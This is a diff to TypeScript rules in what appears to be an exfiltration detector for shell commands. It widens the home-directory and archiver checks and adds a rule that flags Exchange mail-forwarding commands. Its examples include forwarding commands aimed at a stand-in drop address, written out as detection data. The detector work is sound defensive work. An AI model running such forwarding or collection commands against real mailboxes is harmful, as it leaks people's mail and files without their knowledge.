@@ -7,14 +7,15 @@
 import type { Rule } from '../rule.js';
 import type { ShellCommand } from '../shell/model.js';
 import { CURL_VALUED, effectsOf, opts, parseOpts, resolveIn, type Send } from '../effects/index.js';
-import { writtenText } from './idioms.js';
+import { idiomRule, writtenText } from './idioms.js';
 
 /** localhost, 127/8, ::1, 0.0.0.0 and the Docker host alias: not another host. */
 export function isLoopbackHost(host: string): boolean {
   return /^(?:localhost|localhost\.localdomain|127(?:\.\d+){3}|\[::1\]|::1|0\.0\.0\.0|host\.docker\.internal)$/.test(host);
 }
 
-const remoteSends = (sends: Send[]) => sends.filter((s) => !isLoopbackHost(s.host));
+// mail handed to a local SMTP server is relayed on: the loopback host is not where it ends
+const remoteSends = (sends: Send[]) => sends.filter((s) => s.channel === 'mail' || !isLoopbackHost(s.host));
 
 /** Services that take anonymous uploads or catch any request for someone to read later: paste
  * bins, file drops, request catchers, chat webhooks (data posted there is published). */
@@ -255,13 +256,13 @@ export function routesTraffic(c: ShellCommand): boolean {
 
 /** A user's whole home or profile directory, a variable naming one (`~/$USERNAME`), or the login
  * records and authentication logs. */
-const COLLECTED_ROOT = /^(?:~|~\/\*|~\/\$\{?\w+\}?|\/root|\/home\/[^/]+|\/Users\/[^/]+|\/home|\/Users)\/?$|^\/var\/log\/(?:[wb]tmp|lastlog|auth\.log|secure|faillog)$|^\/var\/log\/?$/;
-const PROFILE = /^(?:\$env:USERPROFILE|%USERPROFILE%|\$HOME|C:[\\/]+Users(?:[\\/]+[^\\/*]+)?)(?:[\\/]+AppData(?:[\\/]+(?:Roaming|Local))?)?[\\/]*\*?$/i;
+const COLLECTED_ROOT = /^(?:~|~\/\*(?:\.\w+)?|~\/\$\{?\w+\}?|\/root|\/home\/[^/]+|\/Users\/[^/]+|\/home|\/Users)\/?$|^\/var\/log\/(?:[wb]tmp|lastlog|auth\.log|secure|faillog)$|^\/var\/log\/?$/;
+const PROFILE = /^(?:\$env:USERPROFILE|%USERPROFILE%|\$HOME|C:[\\/]+Users(?:[\\/]+[^\\/*]+)?)(?:[\\/]+AppData(?:[\\/]+(?:Roaming|Local))?)?(?:[\\/]*|[\\/]+\*(?:\.\w+)?)$/i;
 
 /** The files an archiver packs (operands other than the archive it writes), or null for another program. */
 function archiveInputs(c: ShellCommand): string[] | null {
   const args = c.argv.slice(1);
-  const name = c.name.toLowerCase();
+  const name = c.name.toLowerCase().replace(/\.exe$/, '');
   if (name === 'tar' || name === 'bsdtar' || name === 'gtar') {
     const first = args[0] ?? '';
     if (!(/^-?[a-zA-Z]*c/.test(first) && !first.startsWith('--')) && !args.includes('--create')) return null;
@@ -278,7 +279,12 @@ function archiveInputs(c: ShellCommand): string[] | null {
     return out;
   }
   if (name === 'zip') return opts(c).operands.slice(1);
-  if (/^(?:7z|7za|7zz|rar)$/.test(name)) return /^[au]$/.test(args[0] ?? '') ? args.slice(1).filter((a) => !a.startsWith('-')).slice(1) : null;
+  if (/^(?:7z|7za|7zz|rar|winrar)$/.test(name)) {
+    // Windows paths as written (`%USERPROFILE%\*.txt`: a backslash is a separator there)
+    const written = writtenText(c).split(/\s+/).slice(1).map((w) => w.replace(/^["']|["']$/g, ''));
+    const list = written.length === args.length ? written : args;
+    return /^[au]$/.test(list[0] ?? '') ? list.slice(1).filter((a) => !a.startsWith('-')).slice(1) : null;
+  }
   if (/^compress-archive$/.test(name)) {
     // PowerShell paths as written: a backslash is a path separator there, not an escape
     const words = (x: ShellCommand) => writtenText(x).split(/\s+/).slice(1).map((w) => w.replace(/^["']|["']$/g, ''));
@@ -297,6 +303,25 @@ export function archivesCollection(c: ShellCommand): boolean {
 }
 
 export const EXFIL_RULES: Rule[] = [
+  idiomRule({
+    id: 'mail-forwarding-rule',
+    name: 'Mail forwarded outside',
+    category: 'exfiltration',
+    action: 'record',
+    attack: 'T1114.003',
+    description: 'A mailbox or transport rule that forwards, redirects or blind-copies mail: Exchange New-/Set-InboxRule -ForwardTo/-RedirectTo/-ForwardAsAttachmentTo, Set-Mailbox -ForwardingSmtpAddress/-ForwardingAddress, New-/Set-TransportRule -BlindCopyTo/-RedirectMessageTo/-AddToRecipients.',
+    help: 'Every matching message goes on to the address from now on, unseen by the owner. Check the address and who asked for the rule.',
+    examples: {
+      match: ['New-InboxRule -Name x -ForwardTo drop@x.example', 'Set-Mailbox -Identity ceo -ForwardingSmtpAddress drop@x.example', 'New-TransportRule -Name x -BlindCopyTo drop@x.example'],
+      not_match: ['Get-InboxRule -Mailbox ops', 'Set-Mailbox -Identity ops -ForwardingSmtpAddress $null', 'New-InboxRule -Name x -MoveToFolder ops:\\Archive'],
+    },
+    idioms: [
+      // the value is an address (a literal with an @; `$null` clears the forward)
+      { re: /\b(?:New|Set)-InboxRule\b.*\s-(?:ForwardTo|RedirectTo|ForwardAsAttachmentTo)\s+["']?[^\s"'$]*@/i },
+      { re: /\bSet-Mailbox\b.*\s-(?:ForwardingSmtpAddress|ForwardingAddress)\s+["']?(?:smtp:)?[^\s"'$]*@/i },
+      { re: /\b(?:New|Set)-TransportRule\b.*\s-(?:BlindCopyTo|RedirectMessageTo|AddToRecipients|CopyTo)\s+["']?[^\s"'$]*@/i },
+    ],
+  }),
   {
     id: 'files-served-to-network',
     name: 'Files served to other machines',
